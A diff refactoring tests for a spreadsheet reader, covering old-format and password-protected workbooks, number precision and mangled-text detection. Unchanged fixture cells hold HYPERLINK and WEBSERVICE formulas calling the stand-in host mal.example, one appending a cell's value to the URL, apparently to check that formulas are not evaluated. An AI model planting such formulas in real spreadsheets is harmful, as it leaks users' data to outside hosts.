@@ -57,24 +57,10 @@ const row = (at: number, cells: string) => `<row r="${at}">${cells}</row>`
 const head = row(1, text('A1', 'Títol') + text('B1', 'Data'))
 
 describe('a workbook', () => {
-  test('of the old kind is called so', async () => {
-    const old = new Uint8Array([
-      0xd0,
-      0xcf,
-      0x11,
-      0xe0,
-      0xa1,
-      0xb1,
-      0x1a,
-      0xe1,
-      ...Array.from({ length: 600 }, () => 0),
-    ])
-    expect(await readTable(old)).toEqual({ problem: 'oldWorkbook' })
-  })
-
+  const oldSign = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]
   const signed = (sign: string) => {
     const name = [...sign].flatMap((letter) => [letter.charCodeAt(0), 0])
-    return new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, ...name])
+    return new Uint8Array([...oldSign, 0, ...name])
   }
   const archive = (...names: readonly string[]) =>
     zipSync(Object.fromEntries(names.map((name) => [name, bytesOf('x')])))
@@ -85,6 +71,7 @@ describe('a workbook', () => {
       'META-INF/manifest.xml': bytesOf(manifest),
     })
   test.each([
+    ['one of the old kind', new Uint8Array([...oldSign, ...Array(600).fill(0)]), 'oldWorkbook'],
     ['an XLSX with a password', signed('EncryptedPackage'), 'password'],
     ['an ODS with a password', openDocument('spreadsheet', '<encryption-data/>'), 'password'],
     ['.xlsb', archive('[Content_Types].xml', 'xl/workbook.bin'), 'otherWorkbook'],
@@ -140,9 +127,8 @@ describe('a workbook', () => {
       `<c r="A2" t="str"><f>HYPERLINK("https://mal.example/"&amp;A1,"Ball")</f><v>Ball</v></c>`,
       `<c r="B2"><f>WEBSERVICE("https://mal.example")+1</f><v>46353</v></c>`,
     ]
-    expect(await held(workbook({ Full: head + row(2, cells.join('')) }))).toEqual([
-      ['Ball', '46353'],
-    ])
+    const file = workbook({ Full: head + row(2, cells.join('')) })
+    expect(await held(file)).toEqual([['Ball', '46353']])
   })
 
   test.each([
@@ -163,9 +149,8 @@ describe('a workbook', () => {
 
   test('keeps long numbers to fifteen digits, which is all that a spreadsheet has', async () => {
     const cells = `<c r="A2"><v>1.2345678901234567E+25</v></c>${text('B2', '012')}`
-    expect(await held(workbook({ Full: head + row(2, cells) }))).toEqual([
-      ['1.23456789012346e+25', '012'],
-    ])
+    const file = workbook({ Full: head + row(2, cells) })
+    expect(await held(file)).toEqual([['1.23456789012346e+25', '012']])
   })
 
   test('has moments to the minute, however many decimals they are written with', async () => {
@@ -259,27 +244,15 @@ describe('a table in letters that nobody said', () => {
   test.each([true, false])(
     'of two bytes each is read, and that it was guessed is said',
     async (isLittle) => {
+      const read = { names: ['títol', 'data'], rows: [['Cançó d’amor', '27/11/2026']] }
       const found = await readTable(wide(line, isLittle))
-      expect(found).toMatchObject({
-        names: ['títol', 'data'],
-        rows: [['Cançó d’amor', '27/11/2026']],
-        guessed: 'UTF-16',
-      })
+      expect(found).toMatchObject({ ...read, guessed: 'UTF-16' })
     },
   )
 
-  test.each([
-    'CanÃ§Ã³',
-    'lâ€™amor',
-    'L\uFFFDamor',
-    'Can‡¢',
-    'Can\u008D—',
-    'EspaÃ±a',
-    'MÂº',
-    'GOÃ»T',
-    'voilÃ…',
-    'Â«AVUIÂ»',
-  ])('is told of «%s»', (text) => {
+  const lost = 'CanÃ§Ã³ lâ€™amor L\uFFFDamor Can‡¢ Can\u008D— EspaÃ±a MÂº GOÃ»T voilÃ… Â«AVUIÂ»'
+
+  test.each(lost.split(' '))('is told of «%s»', (text) => {
     expect(hasLostLetters(text)).toBe(true)
   })
 
